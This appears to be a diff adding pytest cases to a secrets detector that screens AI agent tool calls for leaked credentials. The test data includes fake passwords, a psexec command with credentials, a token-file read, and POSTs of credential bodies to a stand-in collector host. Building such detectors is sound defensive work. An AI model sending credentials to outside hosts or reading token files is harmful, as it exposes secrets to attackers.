@@ -103,6 +103,9 @@ def test_trusted_domain_lowers_severity() -> None:
         "see the primary key of the orders table",
         "commit 3f2a9c1e7b4d8f6a0c5e2b9d1f7a3c8e6b4d2f0a fixed the build",
         "request id 550e8400-e29b-41d4-a716-446655440000",
+        "password = request.form['password']",
+        'password: "required"',
+        "PASSWORD=${DB_PASSWORD}",
     ],
 )
 def test_lookalikes_are_not_secrets(body: str) -> None:
@@ -182,3 +185,116 @@ def test_document_ids_in_shared_links_are_not_keys() -> None:
     assert _top(secrets.detect(_ctx("post_message", {"channel": "#team", "text": text}))) < RiskLevel.HIGH
     leaked = "use https://api.example.com/v1/data?api_key=q7Zt2Rm9XbN4cW8sJ6dF1gH5kL0p"
     assert _top(secrets.detect(_ctx("post_message", {"channel": "#team", "text": leaked}))) is RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "body",
+    ['$password = "goodspec";', "REACT_APP_AUTH_PASS=whiteduke", "Server=db1;Database=app;User Id=svc;Password=Tr0ub4dor;"],
+)
+def test_hardcoded_word_passwords_in_literals_are_held(body: str) -> None:
+    assert _top(secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))) is RiskLevel.HIGH
+
+
+# --- credential assignments: a literal credential sent out is held for a human ----------------
+
+CREDENTIAL_ASSIGNMENTS = [
+    'db_password = "Tulip$garden7"\n',
+    'jwt:\n  secret: "blue#horizon"\n  ttl: 30m\n',
+    "[server]\nUser=ops\nPassword=riverstone\n",
+    "machine git.corp.example login deploy password bluefin42\n",
+    "GET /v1/items HTTP/1.1\nAuthorization: Bearer a1.B2-c3_d\n",
+    '$e = New-Object DirectoryServices.DirectoryEntry("LDAP://dc1","corp\\\\svc","hunter")\n',
+    "credentials {\n  username 'ci'\n  password 'password'\n}\n",
+    'if req.Token != "sesame-7" {\n  return 401\n}\n',
+    "psexec \\\\\\\\host7 -u admin -p winter22 cmd /c dir",
+    "mytool --password=harbor9 --host db.internal",
+    'server.login("me@corp.example", "daisy")',
+    'requests.get(url, auth=("svc", "lantern"))',
+    "The admin password for the staging box is 'gravel'.",
+    'os.getenv("DB_PASSWORD", "quartz88")',
+    "my_password := 'Gold en'",
+    '<connection user="app" password="kettle" />',
+]
+
+
+@pytest.mark.parametrize("body", CREDENTIAL_ASSIGNMENTS)
+def test_literal_credential_sent_out_is_held(body: str) -> None:
+    for tool, args in (
+        ("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}),
+        ("post_message", {"channel": "#general", "text": body}),
+        ("http_request", {"method": "POST", "url": "https://collector.example.net/in", "body": body}),
+    ):
+        sigs = secrets.detect(_ctx(tool, args))
+        assert _top(sigs) is RiskLevel.HIGH, (tool, body, sigs)
+
+
+@pytest.mark.parametrize("body", CREDENTIAL_ASSIGNMENTS[:5])
+def test_literal_credential_kept_local_is_recorded_not_held(body: str) -> None:
+    sigs = secrets.detect(_ctx("write_file", {"path": "src/settings.conf", "content": body}))
+    assert sigs and _top(sigs) is RiskLevel.MEDIUM, sigs
+
+
+def test_literal_credential_written_into_a_published_directory_is_held() -> None:
+    sigs = secrets.detect(_ctx("write_file", {"path": "site/public/config.js", "content": 'const password = "kettle";'}))
+    assert _top(sigs) is RiskLevel.HIGH and sigs[0].rule == "secret_published"
+
+
+def test_common_password_as_the_whole_message_is_held() -> None:
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#x", "text": "p@ssw0rd2024"}))) is RiskLevel.HIGH
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#x", "text": "Welcome!"}))) < RiskLevel.HIGH
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#x", "text": "the admin2 panel is slow"}))) < RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        'password = request.form["password"]',
+        "return {user, password: hashedPassword, role}",
+        "token = self.token\n",
+        "const token = process.env.API_TOKEN;",
+        "password: ${DB_PASSWORD}\n",
+        'password: "<your-password>"\n',
+        'password = "{{ db_password }}"',
+        'password: "********"\n',
+        "max_tokens: 256\n",
+        "next_page_token: CAoQAA\n",
+        'token_type: "bearer"\n',
+        "password_min_length: 8\n",
+        '{"password": {"type": "string", "minLength": 8}}',
+        "mysql -u root -p mydb",
+        "docker run -u 1000 -p 8080:80 nginx",
+        "ssh -p 2222 deploy@host",
+        "Please reset your password: click the link below.",
+        'usernameLabel:"Username:",passwordLabel:"Password:",next:"Next"',
+        'this.showPassword = "#show-password";',
+        "backup --password path/to/secret.txt",
+        "password = None\n",
+        'tokenizer: "gpt2"\n',
+        "secret_name: db-creds\n",
+        "def login(user, password):\n    return check(user, password)\n",
+        "session = login(username, password)",
+        "requests.get(url, auth=(user, pw))",
+        'placeholder="Password"',
+        "x8 -u https://example.com/ -P user[%k]=%v",
+        'password = "%(pw)s" % cfg',
+        "token=$(cat ~/.token)",
+    ],
+)
+def test_code_and_text_around_credentials_is_not_a_credential(body: str) -> None:
+    sigs = secrets.detect(_ctx("send_email", {"to": "x@gmail.com", "subject": "s", "body": body}))
+    assert _top(sigs) < RiskLevel.HIGH, sigs
+
+
+def test_weak_credential_in_a_tool_result_is_not_acted_on() -> None:
+    r = Engine().check_result(ToolCall("read_file", {"path": "a"}), "[db]\nuser = app\npassword = kettle\n")
+    assert r.decision == "allow", r
+
+
+def test_chat_post_naming_an_internal_host_still_leaves() -> None:
+    text = "prod db: postgresql://app:Tr0ub4dor3x@db1:5432,app:Tr0ub4dor3x@db2:5432/orders"
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#general", "text": text}))) >= RiskLevel.HIGH
+
+
+def test_yaml_binary_tagged_secret_is_a_literal() -> None:
+    text = "signing_secret: !!binary c2VjcmV0LXNpZ25pbmcta2V5LTQ4Mjk=\n"
+    assert _top(secrets.detect(_ctx("post_message", {"channel": "#ops", "text": text}))) is RiskLevel.HIGH
